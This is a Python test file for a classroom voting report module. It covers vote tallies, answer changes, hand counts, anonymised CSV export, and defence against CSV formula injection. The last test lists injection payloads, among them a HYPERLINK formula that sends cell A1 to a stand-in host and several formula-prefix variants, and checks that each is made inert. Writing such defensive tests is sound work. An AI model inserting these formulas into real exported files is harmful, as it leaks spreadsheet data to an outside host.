"""The report of a room: what was voted, who moved, and nothing by which anyone could be known."""

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest

from explainer.classroom.report import COLUMNS, NEEDS, has_share, inert, read_report, report_csv
from explainer.classroom.room import Participant, Room
from explainer.classroom.talk import HeldTalk
from explainer.classroom.tally import Move
from explainer.model.item import Item
from explainer.storage.storage import Storage
from tests.scoring.made_items import DAY, multiple_choice, option, single_choice

NOW = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
ITEM = single_choice(
    options=[option("right"), option("wrong", misconception="a-belief"), option("off", tempts=None)]
)
ITEMS = {ITEM.id: ITEM}


@pytest.fixture
def storage() -> Storage:
    return Storage.in_memory(bytes(32))


@pytest.fixture
def room(storage: Storage) -> Room:
    return storage.open_room("first", code="KITE42", key="k" * 22, step="title", now=NOW)


def people(storage: Storage, room: Room, number: int) -> list[Participant]:
    return [storage.join(room.id, f"token {n}", alias=f"Alias {n}", now=NOW) for n in range(number)]


def vote(storage: Storage, room: Room, item: Item, choices: list[tuple[Participant, str]], act: str) -> int:
    poll = storage.act(room.id, item.id, act, asks_confidence=True, now=NOW)[-1]  # type: ignore[arg-type]
    for who, chosen in choices:
        storage.cast(poll.id, who.id, item, {chosen}, sureness="sure", now=NOW)
    storage.act(room.id, item.id, "close", now=NOW)
    return poll.id


def test_both_votes_the_moves_the_beliefs_and_the_sureness_are_told(storage: Storage, room: Room) -> None:
    ana, ben, eva = people(storage, room, 3)
    vote(storage, room, ITEM, [(ana, "wrong"), (ben, "wrong"), (eva, "right")], "open")
    vote(storage, room, ITEM, [(ana, "right"), (ben, "wrong")], "open-again")
    report = read_report(storage, room, ITEMS, on=DAY)
    (told,) = report.items
    assert [dict(each.tally.options) for each in told.votes] == [
        {"right": 1, "wrong": 2, "off": 0},
        {"right": 1, "wrong": 1, "off": 0},
    ]
    assert told.moves == (
        Move(("right",), None, 1),
        Move(("wrong",), ("right",), 1),
        Move(("wrong",), ("wrong",), 1),
    )
    assert told.both == 2 and report.devices == 3
    # Of the latest vote: who changed to the right option holds the belief no more.
    assert [(each.misconception, each.people) for each in report.beliefs] == [("a-belief", 1)]
    assert report.voted == 2
    assert told.votes[0].sure is not None and told.votes[0].sure.sure_wrong == 2


def test_a_ballot_of_a_device_with_more_time_counts_like_any_other(storage: Storage, room: Room) -> None:
    ana, ben = people(storage, room, 2)
    first = vote(storage, room, ITEM, [(ana, "wrong")], "open")
    storage.give_more_time(first, ben.id, until=NOW + timedelta(minutes=5))
    storage.cast(first, ben.id, ITEM, {"right"}, sureness="unsure", now=NOW)
    vote(storage, room, ITEM, [(ana, "right"), (ben, "right")], "open-again")
    (told,) = read_report(storage, room, ITEMS, on=DAY).items
    assert told.votes[0].tally.ballots == 2 and told.votes[0].tally.right == 1
    assert told.votes[0].sure is not None and told.votes[0].sure.unsure_right == 1
    assert told.both == 2


def test_counted_hands_are_told_as_such_and_move_nobody(storage: Storage, room: Room) -> None:
    for act, counts in (("open", {"right": 3, "wrong": 9}), ("open-again", {"right": 10})):
        poll = storage.act(room.id, ITEM.id, act, by_hand=True, now=NOW)[-1]  # type: ignore[arg-type]
        storage.put_hand_counts(poll.id, counts)
        storage.act(room.id, ITEM.id, "close", now=NOW)
    report = read_report(storage, room, ITEMS, on=DAY)
    (told,) = report.items
    assert [(each.by_hand, each.tally.right, each.tally.ballots) for each in told.votes] == [
        (True, 3, 12),
        (True, 10, 10),
    ]
    assert told.moves == () and report.beliefs == () and report.voted == 0


def test_hands_tell_no_share_where_several_options_are_right() -> None:
    item = multiple_choice(2, 2)
    storage = Storage.in_memory(bytes(32))
    room = storage.open_room("first", code="KITE42", key="k" * 22, step="title", now=NOW)
    storage.act(room.id, item.id, "open", by_hand=True, now=NOW)
    (told,) = read_report(storage, room, {item.id: item}, on=DAY).items
    assert not has_share(told.votes[0], told.key)


def test_an_item_that_is_no_longer_served_is_named_and_breaks_nothing(storage: Storage, room: Room) -> None:
    (ana,) = people(storage, room, 1)
    vote(storage, room, ITEM, [(ana, "off")], "open")
    assert read_report(storage, room, {}, on=DAY).gone == (ITEM.id,)
    without = single_choice(options=[option("right"), option("wrong")])
    (told,) = read_report(storage, room, {without.id: without}, on=DAY).items
    assert told.votes[0].tally.ballots == 1


def rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_the_csv_has_a_row_for_each_item_vote_and_option_and_for_each_move(
    storage: Storage, room: Room
) -> None:
    ana, *others = people(storage, room, NEEDS)
    right = [(one, "right") for one in others]
    vote(storage, room, ITEM, [(ana, "wrong"), *right], "open")
    vote(storage, room, ITEM, [(ana, "right"), *right], "open-again")
    report = read_report(storage, room, ITEMS, on=DAY)
    held = HeldTalk("a-prompt", "four-corners", "move", 5, 1, {"agree": 3, "disagree": 1})
    text = report_csv(replace(report, talks=(held,), syntheses=("Both of us agree.",)), "es")
    found = rows(text)
    assert tuple(found[0]) == COLUMNS
    votes = [
        (row["vote"], row["option"], row["right"], row["people"], row["answers"])
        for row in found
        if row["kind"] == "vote"
    ]
    assert votes == [
        ("1", "right", "yes", "4", "5"),
        ("1", "wrong", "no", "1", "5"),
        ("1", "off", "no", "0", "5"),
        ("2", "right", "yes", "5", "5"),
        ("2", "wrong", "no", "0", "5"),
        ("2", "off", "no", "0", "5"),
    ]
    words = [(row["question"], row["text"]) for row in found if row["kind"] == "vote"][:3]
    assert words == [(ITEM.stem.es, option.text.es) for option in ITEM.options]
    moved = [(row["before"], row["after"], row["people"]) for row in found if row["kind"] == "move"]
    assert moved == [("right", "right", "4"), ("wrong", "right", "1")]
    talks = [
        (row["kind"], row["item"], row["option"], row["people"])
        for row in found
        if row["kind"] in ("talk", "stand")
    ]
    assert talks == [
        ("talk", "a-prompt", "four-corners", "5"),
        ("stand", "a-prompt", "agree", "3"),
        ("stand", "a-prompt", "disagree", "1"),
    ]
    assert [row["text"] for row in found if row["kind"] == "synthesis"] == ["Both of us agree."]
    assert {row["day"] for row in found} == {"2026-11-23"}
    assert "Alias" not in text and "token" not in text


def test_who_moved_is_in_the_csv_only_where_the_report_tells_it(storage: Storage, room: Room) -> None:
    few = people(storage, room, NEEDS - 1)
    vote(storage, room, ITEM, [(one, "wrong") for one in few], "open")
    vote(storage, room, ITEM, [(one, "right") for one in few], "open-again")
    found = rows(report_csv(read_report(storage, room, ITEMS, on=DAY), "en"))
    assert {row["kind"] for row in found} == {"vote"}


HYPERLINK = '=HYPERLINK("http://x.example/?" & A1, "click")'


@pytest.mark.parametrize(
    "evil",
    [
        *(HYPERLINK, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1"),
        *("a;=1+1", "a\n=1+1", "a\r\n@x", '";=1+1', "＝1+1", "= 1"),
    ],
)
def test_no_cell_begins_a_formula_in_any_spreadsheet(storage: Storage, room: Room, evil: str) -> None:
    tagged = replace(room, period=evil)
    text = report_csv(replace(read_report(storage, tagged, ITEMS, on=DAY), syntheses=(evil,)), "en")
    (row,) = rows(text)
    assert row["text"] == inert(evil) == row["period"]
    # Read with the semicolon as the separator, as where commas are for decimals, it is no formula either.
    for separator in ",;\t":
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            assert not [cell for cell in line if cell.strip(' "')[:1] in tuple("=+-@＝")]
